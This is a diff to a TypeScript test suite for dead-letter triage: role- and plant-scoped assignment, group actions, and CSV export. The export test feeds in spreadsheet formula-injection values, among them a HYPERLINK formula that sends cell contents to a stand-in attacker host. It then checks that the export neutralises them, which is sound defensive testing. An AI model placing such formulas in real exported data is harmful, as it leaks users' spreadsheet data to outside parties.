@@ -25,6 +25,11 @@ describe('dead-letter triage', () => {
     plantB = await insertUniquePlant(db.prisma)
   })
   afterAll(() => db.close())
+  /** A user (who could sign in) with these plants. */
+  const makeUser = (role: 'viewer' | 'operator' | 'admin', plants: string[], disabled = false) =>
+    db.prisma.user.create({
+      data: { id: randomUUID(), email: `${role}-${randomUUID().slice(0, 8)}@test`, name: role, role, disabled, plantScopes: { create: plants.map((plantCode) => ({ plantCode })) } },
+    })
 
   it('groups by fingerprint within the caller’s plants, with counts, plants and first/last seen', async () => {
     const t0 = new Date('2026-11-30T08:00:00Z')
@@ -57,7 +62,7 @@ describe('dead-letter triage', () => {
   it('assign and comment move new → triaged; discard needs a reason; every action is audited with before and after', async () => {
     const { row } = await insertDeadLetter(db.prisma, { plant: plantA })
     const operator = makePrincipal('operator', [plantA])
-    const user = await db.prisma.user.create({ data: { id: randomUUID(), email: `op-${row.id.slice(0, 6)}@test`, name: 'Op', role: 'operator' } })
+    const user = await makeUser('operator', [plantA])
     const ctx = { db: db.prisma, principal: operator, clientAddress: '10.0.0.1' }
 
     expect(await assignDeadLetter(ctx, { id: row.id, assigneeId: user.id })).toMatchObject({ status: 'triaged', assigneeId: user.id })
@@ -80,6 +85,45 @@ describe('dead-letter triage', () => {
     expect(detail.audit[2]!.reason).toBe('Posted by hand in MIGO')
     const rows = await db.prisma.auditLog.findMany({ where: { targetId: row.id } })
     expect(rows.every((r) => r.ip === '10.0.0.1' && r.actorId === operator.userId)).toBe(true)
+  })
+
+  it('assigns dead letters only to active operators or admins whose plants include the record’s plant', async () => {
+    const { row } = await insertDeadLetter(db.prisma, { plant: plantA })
+    const ctx = { db: db.prisma, principal: makePrincipal('operator', [plantA]) }
+    const [viewerA, operatorB, disabledA, operatorA, admin] = await Promise.all([
+      makeUser('viewer', [plantA]),
+      makeUser('operator', [plantB]),
+      makeUser('operator', [plantA], true),
+      makeUser('operator', [plantA]),
+      makeUser('admin', []),
+    ])
+    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: viewerA.id }))).toEqual({
+      code: 'BAD_REQUEST',
+      message: `${viewerA.email} is a viewer: dead letters are assigned to operators or admins, who can triage and replay them.`,
+    })
+    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: operatorB.id }))).toEqual({
+      code: 'BAD_REQUEST',
+      message: `${operatorB.email} cannot take dead letters of plant ${plantA}: assign them to an operator or admin of that plant.`,
+    })
+    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: disabledA.id }))).toMatchObject({ code: 'BAD_REQUEST', message: 'Pick an active user to assign it to.' })
+    expect((await db.prisma.deadLetter.findUniqueOrThrow({ where: { id: row.id } })).assigneeId).toBeNull()
+    expect(await assignDeadLetter(ctx, { id: row.id, assigneeId: operatorA.id })).toMatchObject({ assigneeId: operatorA.id })
+    expect(await assignDeadLetter(ctx, { id: row.id, assigneeId: admin.id })).toMatchObject({ assigneeId: admin.id })
+
+    // A record without a decoded plant: admins only, as for reading it.
+    const { row: orphan } = await insertDeadLetter(db.prisma, { plant: null })
+    const asAdmin = { db: db.prisma, principal: makePrincipal('admin', 'all') }
+    expect(await domainError(assignDeadLetter(asAdmin, { id: orphan.id, assigneeId: operatorA.id }))).toMatchObject({ code: 'BAD_REQUEST', message: `${operatorA.email} cannot take dead letters without a known plant: only admins see those; assign them to an admin.` })
+    expect(await assignDeadLetter(asAdmin, { id: orphan.id, assigneeId: admin.id })).toMatchObject({ assigneeId: admin.id })
+
+    // A group: the assignee must be able to take every record that would move; else none moves.
+    const inA = await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'GA/001' })
+    const inB = await insertDeadLetter(db.prisma, { plant: plantB, errorCode: 'GA/001' })
+    const group = { filter: { fingerprint: 'fp-GA/001' }, action: { kind: 'assign' as const, assigneeId: operatorA.id } }
+    expect(await domainError(triageMatching(asAdmin, group))).toMatchObject({ code: 'BAD_REQUEST', message: `${operatorA.email} cannot take dead letters of plant ${plantB}: assign them to an operator or admin of that plant.` })
+    expect((await db.prisma.deadLetter.findMany({ where: { id: { in: [inA.row.id, inB.row.id] } } })).map((d) => d.assigneeId)).toEqual([null, null])
+    // An operator of plant A moves only plant A’s records, which operator A may take.
+    expect(await triageMatching({ db: db.prisma, principal: makePrincipal('operator', [plantA]) }, group)).toEqual({ changed: 1, skipped: 0 })
   })
 
   it('viewers cannot triage; operators only within their plants; records of unknown plants are for admins', async () => {
@@ -127,7 +171,7 @@ describe('dead-letter triage', () => {
 
     // An admin assigns the group in both plants; assigning again to the same person changes nothing.
     const admin = makePrincipal('admin', 'all')
-    const user = await db.prisma.user.create({ data: { id: randomUUID(), email: `grp-${a1.row.id.slice(0, 6)}@test`, name: 'Op', role: 'operator' } })
+    const user = await makeUser('operator', [plantA, plantB])
     const assign = { filter: group, action: { kind: 'assign' as const, assigneeId: user.id } }
     expect(await triageMatching({ db: db.prisma, principal: admin }, assign)).toEqual({ changed: 2, skipped: 0 })
     expect(await db.prisma.deadLetter.findUniqueOrThrow({ where: { id: otherPlant.row.id } })).toMatchObject({ status: 'triaged', assigneeId: user.id })
@@ -152,15 +196,34 @@ describe('dead-letter triage', () => {
     expect(JSON.parse(d.payload!)).toMatchObject({ plant: plantA, correlation_id: d.correlationId })
   })
 
-  it('CSV export: the filter’s rows in the caller’s plants, formula-like cells neutralised', async () => {
+  it('CSV export: the filter’s rows in the caller’s plants, formula-like cells neutralised, times in ISO 8601', async () => {
     const plant = await insertUniquePlant(db.prisma)
-    await insertDeadLetter(db.prisma, { plant, errorCode: '=HYPERLINK("x")' })
-    await insertDeadLetter(db.prisma, { plant, errorCode: 'M7/053' })
-    const text = await new Response(exportDeadLettersCsv({ db: db.prisma, principal: makePrincipal('operator', [plant]) }, { plant })).text()
-    const lines = text.trim().split('\r\n')
-    expect(lines[0]).toMatch(/^id,status,dead_lettered_at,plant,flow,error_category,error_code,/)
-    expect(lines).toHaveLength(3)
-    expect(text).toContain(`"'=HYPERLINK(""x"")"`)
-    expect(() => exportDeadLettersCsv({ db: db.prisma, principal: makePrincipal('operator', [plant]) }, { plant: plantA })).toThrow(DomainError)
+    const attack = await insertDeadLetter(db.prisma, { plant, errorCode: '=HYPERLINK("x")' })
+    // What a producer or a replay edit can put into the keys and the message.
+    await db.prisma.deadLetter.update({
+      where: { id: attack.row.id },
+      data: {
+        businessKeys: { work_order: '+4711', lot: '@LOT', material: '=HYPERLINK("http://evil.example/?leak="&A2,"click")' },
+        errorMessage: '-2+3\nsecond line',
+        consumerGroup: '\t=1+1',
+        convention: '\r=1+1',
+      },
+    })
+    const plain = await insertDeadLetter(db.prisma, { plant, errorCode: 'M7/053', workOrder: '155000072353' })
+    const operator = makePrincipal('operator', [plant])
+    const text = await new Response(await exportDeadLettersCsv({ db: db.prisma, principal: operator }, { plant })).text()
+    expect(text.split('\r\n')[0]).toBe(
+      'id,status,dead_lettered_at,plant,flow,error_category,error_code,error_class,error_message,correlation_id,work_order,lot,material,dlq_topic,dlq_partition,dlq_offset,convention,source_topic,source_partition,source_offset,consumer_group,attempts,assignee_id,fingerprint,expires_at',
+    )
+    expect(text).toContain(`,"'=HYPERLINK(""x"")",`)
+    expect(text).toContain(`,"'-2+3\nsecond line",`)
+    expect(text).toContain(`,'+4711,'@LOT,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",`)
+    expect(text).toContain(`,"'\r=1+1",`)
+    expect(text).toContain(`,'\t=1+1,`)
+    // Ordinary values unchanged; times ISO 8601 (UTC).
+    const row = text.split('\r\n').find((l) => l.startsWith(`${plain.row.id},`))!
+    expect(row).toContain(`,new,${plain.row.recordTimestamp.toISOString()},${plant},production_confirmation,permanent,M7/053,com.sap.conn.jco.AbapException,Posting only possible in periods 2026/11 and 2026/10,${plain.row.correlationId},155000072353,`)
+    expect(row).toContain(',fp-M7/053,')
+    await expect(exportDeadLettersCsv({ db: db.prisma, principal: operator }, { plant: plantA })).rejects.toThrow(DomainError)
   })
 })
